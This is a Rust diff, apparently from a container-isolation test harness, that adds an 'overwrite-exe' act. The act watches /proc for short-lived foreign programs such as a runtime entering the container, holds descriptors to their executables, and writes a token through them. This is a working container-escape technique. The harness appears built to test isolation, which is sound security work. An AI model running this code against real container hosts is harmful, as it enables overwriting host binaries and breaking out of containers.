@@ -19,6 +19,7 @@ pub(crate) const ACTS: &[(&str, Act)] = &[
     ("proc-doors", proc_doors),
     ("proc-environ", proc_environ),
     ("proc-exe", proc_exe),
+    ("overwrite-exe", overwrite_exe),
     ("proc-mem", proc_mem),
     ("descriptors", descriptors),
     ("inherited-token", inherited_token),
@@ -203,6 +204,36 @@ fn overwrite(path: &str, pid: u32, token: &str) -> Outcome {
         std::thread::sleep(std::time::Duration::from_millis(5));
     }
     Err(libc::ETXTBSY).step("open for writing")
+}
+
+/// As `proc-exe`, against programs that are there for a moment only, such as a runtime on its way into the container:
+/// collects descriptors of every foreign program for as long as it lives, and tries to write through each.
+fn overwrite_exe(arguments: &[String]) -> Outcome {
+    let token = argument(arguments, 0)?;
+    println!("watching");
+    let mut held: Vec<(std::fs::File, std::path::PathBuf)> = Vec::new();
+    loop {
+        for pid in pids() {
+            let path = format!("/proc/{pid}/exe");
+            let Ok(link) = std::fs::read_link(&path) else { continue };
+            if link.starts_with("/attacker") || link.starts_with("/bin") || held.iter().any(|(_, seen)| *seen == link) {
+                continue;
+            }
+            if let Ok(program) = std::fs::File::open(&path) {
+                println!("held {}", link.display());
+                held.push((program, link));
+            }
+        }
+        for (program, link) in &held {
+            let again = format!("/proc/self/fd/{}", program.as_raw_fd());
+            let written =
+                OpenOptions::new().write(true).open(again).and_then(|mut file| file.write_all(token.as_bytes()));
+            if written.is_ok() {
+                println!("overwrote {}", link.display());
+                return Ok(format!("{} was overwritten", link.display()));
+            }
+        }
+    }
 }
 
 /// Reads the memory of every other process: /proc/PID/mem at the address of its auxiliary vector's page.
